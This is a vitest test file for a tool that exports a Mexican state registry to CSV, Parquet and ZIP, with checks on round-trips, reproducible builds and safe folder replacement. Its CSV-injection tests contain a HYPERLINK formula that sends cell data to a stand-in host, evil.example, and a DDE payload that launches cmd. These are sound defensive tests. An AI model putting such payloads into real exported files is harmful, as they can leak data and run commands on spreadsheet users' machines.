import {execFile} from "node:child_process";
import {existsSync} from "node:fs";
import * as fs from "node:fs/promises";
import {mkdir, mkdtemp, readFile, readdir, writeFile} from "node:fs/promises";
import {tmpdir} from "node:os";
import {basename, join} from "node:path";
import {promisify} from "node:util";
import JSZip from "jszip";
import {describe, expect, it} from "vitest";
import {readTable} from "../loaders/registry/table-read.js";
import {fromParquet, toParquet} from "../loaders/publish/parquet.js";
import {outputTables, publishedTableDefs} from "../loaders/publish/outputs.js";
import {loadRegistry} from "../loaders/registry/registry.js";
import {SCHEMA, TABLE_NAMES} from "../metrics/model/schema.js";
import {mutatedRegistry, VALID_FIXTURE} from "./helpers/registry-fixture.js";
import {csvField, rowsToCsv} from "../metrics/model/csv.js";
import {publishedFiles} from "../loaders/publish/publish.js";
import {ExportError, type FolderOps, writeExportFolder} from "../loaders/publish/export-folder.js";
import {parseCsv} from "../loaders/registry/csv-parse.js";
import {runsAsFormula, unprotectCell} from "../metrics/model/formula.js";
import type {Provenance} from "../loaders/registry/registry-source.js";
import {publishStableDownloads} from "../scripts/stable-downloads.js";

const PROVENANCE: Provenance = {
  origen: "incluido",
  url: null,
  aviso: null,
  fecha_registro: null,
  fecha_construccion: "2026-12-03T00:00:00.000Z"
};

const run = promisify(execFile);
const ALL_TABLES = publishedTableDefs().map((t) => t.name);

describe("toParquet(columns, rows) and fromParquet(bytes)", () => {
  it("round-trips every table of the shipped registry exactly (types and nulls kept)", async () => {
    const registry = await loadRegistry();
    for (const name of TABLE_NAMES) {
      const rows = registry[name] as unknown as Record<string, string | number | boolean | null>[];
      const back = fromParquet(toParquet(SCHEMA[name].columns, rows));
      expect(back, name).toEqual(rows);
    }
  });

  it("writes an empty table with its columns", () => {
    const bytes = toParquet(SCHEMA.decisiones.columns, []);
    expect(fromParquet(bytes)).toEqual([]);
  });
});

describe("the shipped registry", () => {
  it("is valid, holds the 32 entities and cites a source on every fact row", async () => {
    const r = await loadRegistry();
    expect(r.entidades.map((e) => e.clave_inegi)).toEqual(
      Array.from({length: 32}, (_, i) => String(i + 1).padStart(2, "0"))
    );
    const fuentes = new Set(r.fuentes.map((f) => f.fuente_id));
    for (const name of ["hitos", "estatus_reportados", "compromisos", "totales_reportados"] as const) {
      for (const row of r[name]) {
        expect(fuentes.has(row.fuente_id), `${name}: ${row.fuente_id}`).toBe(true);
        expect(row.cita.length).toBeGreaterThan(0);
      }
    }
  });

  it("reads back equal to the registry when the CSV is parsed again after export, without the columns the publication adds", async () => {
    const dir = await mkdtemp(join(tmpdir(), "exportacion-"));
    await run("node", ["--import", "tsx", "scripts/export.ts", "--out", dir]);
    const registry = await loadRegistry();
    for (const name of TABLE_NAMES) {
      const published = new Uint8Array(await readFile(join(dir, `${name}.csv`)));
      const own = SCHEMA[name].columns.map((c) => c.name);
      const {records} = parseCsv(new TextDecoder().decode(published).replace(/^\uFEFF/, ""), `${name}.csv`);
      const keep = own.map((c) => records[0].fields.indexOf(c));
      expect(keep, name).not.toContain(-1);
      const registryCsv = records.map((r) => keep.map((k) => csvField(r.fields[k])).join(",")).join("\n");
      const {table, problems} = readTable(name, new TextEncoder().encode(`${registryCsv}\n`), `${name}.csv`);
      expect(problems, name).toEqual([]);
      expect(table.rows, name).toEqual(registry[name]);
      const parquet = fromParquet(new Uint8Array(await readFile(join(dir, `${name}.parquet`))));
      expect(
        parquet.map((row) => Object.fromEntries(own.map((c) => [c, row[c]]))),
        name
      ).toEqual(registry[name]);
      // A table with added columns is not a registry file: validation refuses its header (README, «Fuente remota»).
      if (records[0].fields.length > own.length)
        expect(readTable(name, published, `${name}.csv`).problems[0]?.expected, name).toContain("encabezado");
    }
  });
});

describe("npm run export -- --out DIR", () => {
  it("writes every table as CSV and Parquet, the dictionary and the provenance", async () => {
    const dir = join(await mkdtemp(join(tmpdir(), "exportacion-")), "salida");
    const {stdout} = await run("node", ["--import", "tsx", "scripts/export.ts", "--out", dir]);
    const files = (await readdir(dir)).sort();
    const expected = [...ALL_TABLES, "diccionario"]
      .flatMap((t) => [`${t}.csv`, `${t}.parquet`])
      .concat("construccion.json")
      .sort();
    expect(files).toEqual(expected);
    expect(stdout).toContain(`${expected.length} archivos escritos`);
    const dictionary = fromParquet(new Uint8Array(await readFile(join(dir, "diccionario.parquet"))));
    for (const t of publishedTableDefs()) {
      expect(dictionary.filter((d) => d.tabla === t.name).map((d) => d.columna)).toEqual(t.columns.map((c) => c.name));
    }
    // Every CSV starts with the UTF-8 byte order mark, so Excel on Windows reads "Estado de México", not "MÃ©xico".
    for (const name of files.filter((f) => f.endsWith(".csv")))
      expect([...(await readFile(join(dir, name))).subarray(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
    expect((await readFile(join(dir, "entidades.csv"), "utf8")).slice(1, 12)).toBe("clave_inegi");
    const provenance = JSON.parse(await readFile(join(dir, "construccion.json"), "utf8"));
    expect(provenance.origen).toBe("incluido");
    expect(provenance.filas.entidades).toBe(32);
  });

  it("writes nothing and exits 1 when the registry is invalid", async () => {
    const registry = await mutatedRegistry({
      file: "hitos.csv",
      replace: "2015-03-09,2015-03-09",
      with: "2015-03-09,2015-03-32"
    });
    const out = join(await mkdtemp(join(tmpdir(), "exportacion-")), "salida");
    const failed = await run("node", ["--import", "tsx", "scripts/export.ts", "--out", out], {
      env: {...process.env, TABLERO_REGISTRO_DIR: registry}
    }).catch((e) => e);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain(
      'hitos.csv:2:55 (fecha_max) valor "2015-03-32": se esperaba una fecha real AAAA-MM-DD'
    );
    expect(existsSync(out)).toBe(false);
    expect(await readdir(join(out, ".."))).toEqual([]);
  });
});

describe("the site's data archive loader (src/data/registro.zip.ts)", () => {
  /** Two runs of the loader on the shipped registry, at once; both tests below read them (each run takes seconds). */
  let twoRuns: Promise<JSZip[]> | undefined;
  const runs = () =>
    (twoRuns ??= Promise.all(
      [1, 2].map(async () => {
        const {stdout} = await run("node", ["--import", "tsx", "src/data/registro.zip.ts"], {
          encoding: "buffer",
          maxBuffer: 64 * 1024 * 1024
        });
        return JSZip.loadAsync(stdout);
      })
    ));

  it("writes a ZIP with one Parquet and one CSV per published table and construccion.json", async () => {
    const [zip] = await runs();
    const names = Object.keys(zip.files).sort();
    expect(names).toEqual(
      [...ALL_TABLES, "diccionario"]
        .flatMap((t) => [`${t}.csv`, `${t}.parquet`])
        .concat("construccion.json")
        .sort()
    );
    const ultimo = fromParquet(await zip.file("ultimo_hito.parquet")!.async("uint8array"));
    expect(ultimo).toEqual(outputTables(await loadRegistry()).find((t) => t.name === "ultimo_hito")!.rows);
  });

  it("the same registry gives the same bytes: two runs differ only in construccion.json (which carries the build time)", async () => {
    const [first, second] = await runs();
    expect(Object.keys(second.files).sort()).toEqual(Object.keys(first.files).sort());
    for (const name of Object.keys(first.files).filter((n) => n !== "construccion.json")) {
      const [a, b] = await Promise.all([first, second].map((zip) => zip.file(name)!.async("uint8array")));
      expect(Buffer.compare(Buffer.from(a), Buffer.from(b)), name).toBe(0);
    }
  });

  it("fails with the problems on stderr and writes nothing to stdout when the registry is invalid", async () => {
    const registry = await mutatedRegistry({file: "compromisos.csv", replace: "coa-1-p1,", with: "coa-1-01,"});
    const failed = await run("node", ["--import", "tsx", "src/data/registro.zip.ts"], {
      env: {...process.env, TABLERO_REGISTRO_DIR: registry}
    }).catch((e) => e);
    expect(failed.code).toBe(1);
    expect(failed.stdout).toBe("");
    expect(failed.stderr).toContain(
      'compromisos.csv:3:1 (compromiso_id) valor "coa-1-01": se esperaba un identificador único; ya aparece en la línea 2'
    );
  });
});

describe("generated files (npm run generate)", () => {
  it("data/README.md has the dictionary of the current schema", async () => {
    const result = await run("node", ["--import", "tsx", "scripts/generate.ts", "--check"]).catch((e) => e);
    expect(result.stderr ?? "").toBe("");
    expect(result.code ?? 0).toBe(0);
  });
});

describe("published CSVs cannot run a formula in Excel or LibreOffice (issue 15)", () => {
  it("rowsToCsv writes formula-like text with an apostrophe in front; numbers, negative ones too, stay numbers", () => {
    const columns = [
      {name: "titulo", type: "text"},
      {name: "diferencia", type: "integer"},
      {name: "fecha", type: "date"}
    ] as const;
    expect(
      rowsToCsv(columns, [
        {titulo: '=HYPERLINK("http://evil.example/?d="&A1,"Ver fuente")', diferencia: -3, fecha: "2015-03-09"},
        {titulo: "\t@SUM(A1)", diferencia: 2, fecha: null},
        {titulo: "'ya con apóstrofo", diferencia: null, fecha: null}
      ])
    ).toBe(
      'titulo,diferencia,fecha\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver fuente"")",-3,2015-03-09\n\'\t@SUM(A1),2,\n\'\'ya con apóstrofo,,\n'
    );
  });

  it("whatever text reaches the publication (registry or derived tables), no CSV cell runs as a formula; Parquet keeps the value", async () => {
    const registry = await loadRegistry(VALID_FIXTURE);
    const evil = ['=HYPERLINK("http://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\r=1"];
    registry.compromisos[0] = {...registry.compromisos[0], titulo: evil[0], responsable: evil[1]};
    registry.entidades[0] = {...registry.entidades[0], nombre_corto: evil[2]};
    registry.fuentes[0] = {...registry.fuentes[0], titulo: evil[3], emisor: evil[4]};
    const files = publishedFiles(registry, {...PROVENANCE}, {csv: true});
    const seen = new Set<string>();
    for (const f of files.filter((x) => x.name.endsWith(".csv"))) {
      const {records} = parseCsv(new TextDecoder().decode(f.bytes).slice(1), f.name);
      for (const r of records)
        for (const v of r.fields) {
          expect(runsAsFormula(v), `${f.name}: ${v}`).toBe(false);
          if (evil.includes(unprotectCell(v)) && v !== unprotectCell(v)) seen.add(unprotectCell(v));
        }
    }
    expect([...seen].sort()).toEqual([...evil].sort());
    const parquet = fromParquet(files.find((f) => f.name === "compromisos.parquet")!.bytes);
    expect(parquet[0].titulo).toBe(evil[0]);
  });

  it("the build's stable downloads refuse a CSV member that would run a formula, naming file, line and column", async () => {
    const site = await mkdtemp(join(tmpdir(), "sitio-"));
    const zip = new JSZip();
    zip.file("hitos.csv", "\uFEFFhito_id,cita\nh1,=1+1\n");
    zip.file("hitos.parquet", new Uint8Array([1]));
    zip.file("construccion.json", JSON.stringify({fecha_construccion: "x", fecha_registro: null, filas: {hitos: 1}}));
    await mkdir(join(site, "_file/data"), {recursive: true});
    await writeFile(join(site, "_file/data/registro.0123abcd.zip"), await zip.generateAsync({type: "uint8array"}));
    await expect(publishStableDownloads(site)).rejects.toThrow(
      'hitos.csv:2:4: la celda "=1+1" se ejecutaría como fórmula en Excel o LibreOffice; la publicación debe escribirla con un apóstrofo delante (metrics/model/csv.ts)'
    );
  });
});

describe("the export is all-or-nothing (issue 15)", () => {
  const file = (name: string, text: string) => ({name, bytes: new TextEncoder().encode(text)});
  const NEW = [file("hitos.csv", "nuevo"), file("construccion.json", '{"nueva": true}')];

  /** A folder holding a previous export: its files and their text. */
  async function oldExport(extra: Record<string, string> = {}): Promise<string> {
    const dir = join(await mkdtemp(join(tmpdir(), "exportacion-")), "salida");
    await mkdir(dir);
    for (const [name, text] of Object.entries({"hitos.csv": "viejo", "construccion.json": "{}", ...extra}))
      await writeFile(join(dir, name), text);
    return dir;
  }
  const contents = async (dir: string) =>
    Object.fromEntries(
      await Promise.all((await readdir(dir)).sort().map(async (n) => [n, await readFile(join(dir, n), "utf8")]))
    );
  const leftovers = async (dir: string) => (await readdir(join(dir, ".."))).filter((n) => n !== "salida");

  it("replaces a previous export whole: a table that is no longer published does not stay behind", async () => {
    const dir = await oldExport({"tabla_vieja.csv": "x"});
    await writeExportFolder(dir, NEW);
    expect(await contents(dir)).toEqual({"construccion.json": '{"nueva": true}', "hitos.csv": "nuevo"});
    expect(await leftovers(dir)).toEqual([]);
  });

  it("a failure while swapping (a file locked by Excel) leaves the old export as it was, says what to do in Spanish", async () => {
    const dir = await oldExport();
    const before = await contents(dir);
    const locked: FolderOps = {
      ...fs,
      rename: (async (from: string, to: string) => {
        if (to === dir && basename(String(from)).includes("-nueva-"))
          throw Object.assign(new Error("EBUSY: resource busy or locked"), {code: "EBUSY"});
        return fs.rename(from, to);
      }) as typeof fs.rename
    };
    const error = await writeExportFolder(dir, NEW, locked).catch((e) => e);
    expect(error).toBeInstanceOf(ExportError);
    expect(error.message).toBe(
      `No se pudo exportar: al poner la exportación nueva en su lugar ${dir}, un archivo de la carpeta está abierto en otro programa (¿Excel?): ciérrelo y vuelva a exportar, o elija otra carpeta con --out (EBUSY). No se escribió nada: la carpeta quedó como estaba.`
    );
    expect(await contents(dir)).toEqual(before);
    expect(await leftovers(dir)).toEqual([]);
  });

  it("a failure while writing a file leaves the old export as it was and names the file", async () => {
    const dir = await oldExport();
    const before = await contents(dir);
    const full: FolderOps = {
      ...fs,
      writeFile: (async (path: string, bytes: Uint8Array) => {
        if (basename(String(path)) === "construccion.json")
          throw Object.assign(new Error("ENOSPC: no space left on device"), {code: "ENOSPC"});
        return fs.writeFile(path, bytes);
      }) as typeof fs.writeFile
    };
    const error = await writeExportFolder(dir, NEW, full).catch((e) => e);
    expect(error.message).toBe(
      `No se pudo exportar: al escribir el archivo ${join(dir, "construccion.json")}, el disco está lleno: libere espacio y vuelva a exportar (ENOSPC). No se escribió nada: la carpeta quedó como estaba.`
    );
    expect(await contents(dir)).toEqual(before);
    expect(await leftovers(dir)).toEqual([]);
  });

  it("refuses, before writing anything, a path that is a file or a folder holding something other than an export", async () => {
    const dir = await oldExport();
    await writeFile(join(dir, "..", "archivo"), "x");
    await expect(writeExportFolder(join(dir, "..", "archivo"), NEW)).rejects.toThrow(
      `No se pudo exportar: ${join(dir, "..", "archivo")} existe y no es una carpeta. Elija otra carpeta con --out, o mueva o borre ese archivo. No se escribió nada: la carpeta quedó como estaba.`
    );
    const documents = join(dir, "..", "documentos");
    await mkdir(documents);
    await writeFile(join(documents, "informe.docx"), "x");
    await expect(writeExportFolder(documents, NEW)).rejects.toThrow(
      `No se pudo exportar: la carpeta ${documents} tiene archivos que no son de una exportación (informe.docx; no tiene construccion.json) y la exportación reemplaza la carpeta completa. Elija una carpeta nueva o vacía con --out. No se escribió nada: la carpeta quedó como estaba.`
    );
    expect(await readdir(documents)).toEqual(["informe.docx"]);
  });

  it("npm run export with a folder in the way: exit 2, the path and what to do in Spanish, no EISDIR, old export intact", async () => {
    const dir = await oldExport();
    await mkdir(join(dir, "hitos.parquet"));
    const failed = await run("node", ["--import", "tsx", "scripts/export.ts", "--out", dir]).catch((e) => e);
    expect(failed.code).toBe(2);
    expect(failed.stderr).toBe(
      `Error: No se pudo exportar: ${join(dir, "hitos.parquet")} es una carpeta (o no es un archivo común) y la exportación reemplaza la carpeta ${dir} completa. Muévala fuera de ${dir} o elija otra carpeta con --out. No se escribió nada: la carpeta quedó como estaba.\n`
    );
    expect(failed.stderr).not.toContain("EISDIR");
    expect(await readFile(join(dir, "hitos.csv"), "utf8")).toBe("viejo");
    expect((await fs.lstat(join(dir, "hitos.parquet"))).isDirectory()).toBe(true);
    expect(await leftovers(dir)).toEqual([]);
  });
});
